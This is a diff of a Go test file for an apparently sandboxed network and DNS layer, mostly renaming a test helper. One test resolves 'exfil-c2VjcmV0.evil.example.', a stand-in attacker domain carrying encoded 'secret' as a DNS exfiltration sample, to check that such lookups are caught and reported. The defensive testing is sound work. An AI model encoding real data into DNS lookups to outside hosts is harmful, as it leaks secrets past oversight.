@@ -21,7 +21,8 @@ import (
 )
 
 // ask sends a question over UDP or TCP and returns the answer.
-func (w *testNetwork) ask(kind string, server netip.Addr, name string, qtype dnsmessage.Type, more ...dnsmessage.Resource) dnsmessage.Message {
+func (w *testNetwork) ask(kind string, server netip.Addr, name string, qtype dnsmessage.Type, more ...dnsmessage.Resource,
+) dnsmessage.Message {
 	w.t.Helper()
 	m := dnsmessage.Message{
 		Header:      dnsmessage.Header{ID: 4711, RecursionDesired: true},
@@ -96,7 +97,7 @@ func TestDNS(t *testing.T) {
 			"long.example.":  {{Header: header("long.example.", dnsmessage.TypeTXT), Body: &dnsmessage.TXTResource{TXT: long}}},
 		},
 	}
-	w := newTestNetwork(t, Config{Policy: policy(network.ModePublic), Resolver: resolver})
+	w := newNetwork(t, Config{Policy: policy(network.ModePublic), Resolver: resolver})
 	for _, c := range []struct {
 		name string
 		kind dnsmessage.Type
@@ -157,7 +158,7 @@ func TestDNS(t *testing.T) {
 // as musl and glibc ask for A and AAAA.
 func TestDNSSideBySide(t *testing.T) {
 	slow := &slowResolver{release: make(chan struct{})}
-	w := newTestNetwork(t, Config{Policy: policy(network.ModePublic), Resolver: slow})
+	w := newNetwork(t, Config{Policy: policy(network.ModePublic), Resolver: slow})
 	conn := w.mustDial("udp", net.JoinHostPort(gateway4.String(), "53"))
 	for id, name := range []string{"slow.example.", "fast.example."} {
 		m := dnsmessage.Message{Header: dnsmessage.Header{ID: uint16(id)}, Questions: []dnsmessage.Question{{Name: dnsmessage.MustNewName(name), Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET}}}
@@ -200,7 +201,7 @@ func (r *slowResolver) Records(context.Context, dnsmessage.Question) ([]dnsmessa
 // TestDNSFlood asks many more questions than are answered concurrently.
 func TestDNSFlood(t *testing.T) {
 	slow := &slowResolver{release: make(chan struct{})}
-	w := newTestNetwork(t, Config{Policy: policy(network.ModePublic), Resolver: slow})
+	w := newNetwork(t, Config{Policy: policy(network.ModePublic), Resolver: slow})
 	conn := w.mustDial("udp", net.JoinHostPort(gateway4.String(), "53"))
 	for i := range 5000 {
 		m := dnsmessage.Message{Questions: []dnsmessage.Question{{Name: dnsmessage.MustNewName(fmt.Sprintf("n%d.example.", i)), Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET}}}
@@ -221,7 +222,7 @@ func TestHostRule(t *testing.T) {
 	to := serve(t, "203.0.113.10", echoTCP)
 	other := serve(t, "203.0.113.20", echoTCP)
 	resolver := &fakeResolver{t: t, hosts: map[string][]string{"api.example": {"203.0.113.10"}, "a.wild.example": {"203.0.113.20"}, "wild.example": {"203.0.113.20"}}}
-	w := newTestNetwork(t, Config{Policy: policy(network.ModeList, "{host: api.example}", `{host: "*.wild.example"}`), Resolver: resolver})
+	w := newNetwork(t, Config{Policy: policy(network.ModeList, "{host: api.example}", `{host: "*.wild.example"}`), Resolver: resolver})
 	reach := func(to netip.AddrPort) error {
 		conn, err := w.dial("tcp", to.String())
 		if err == nil {
@@ -252,7 +253,7 @@ func TestHostRule(t *testing.T) {
 // that follows is reported with its name and port.
 func TestStandIn(t *testing.T) {
 	resolver := &fakeResolver{t: t}
-	w := newTestNetwork(t, Config{Policy: policy(network.ModeList, "{host: api.example}"), Resolver: resolver})
+	w := newNetwork(t, Config{Policy: policy(network.ModeList, "{host: api.example}"), Resolver: resolver})
 	for range 2 {
 		addrs, err := w.resolver().LookupNetIP(t.Context(), "ip", "exfil-c2VjcmV0.evil.example.")
 		if err != nil || len(addrs) != 1 {
@@ -280,7 +281,7 @@ func TestStandIn(t *testing.T) {
 		t.Errorf("got %d reports, want 5: %+v", len(reports), reports)
 	}
 	// An address of the range that isn't a stand-in is refused, even in mode open.
-	for _, w := range []*testNetwork{w, newTestNetwork(t, Config{Policy: policy(network.ModeOpen)})} {
+	for _, w := range []*testNetwork{w, newNetwork(t, Config{Policy: policy(network.ModeOpen)})} {
 		if _, err := w.dial("tcp", "198.19.200.200:80"); !errors.Is(err, syscall.ECONNREFUSED) {
 			t.Fatal(err)
 		}
@@ -292,7 +293,7 @@ func TestStandIn(t *testing.T) {
 
 // TestStandInsBounded asks for more names than there can be stand-ins.
 func TestStandInsBounded(t *testing.T) {
-	w := newTestNetwork(t, Config{Policy: policy(network.ModeList, "{host: api.example}")})
+	w := newNetwork(t, Config{Policy: policy(network.ModeList, "{host: api.example}")})
 	seen := map[netip.Addr]bool{}
 	for i := range maxStandIns + 100 {
 		if a := w.n.names.standIn(strconv.Itoa(i)); a.IsValid() {
@@ -398,7 +399,7 @@ func TestAnswer(t *testing.T) {
 
 // TestDNSOverTCPBounded announces a question that is longer than any real one.
 func TestDNSOverTCPBounded(t *testing.T) {
-	w := newTestNetwork(t, Config{Policy: policy(network.ModePublic)})
+	w := newNetwork(t, Config{Policy: policy(network.ModePublic)})
 	conn := w.mustDial("tcp", net.JoinHostPort(gateway4.String(), "53"))
 	_, _ = conn.Write([]byte{0xff, 0xff, 0})
 	_ = conn.SetReadDeadline(time.Now().Add(dnsIdle / 2)) // before the server closes an idle connection
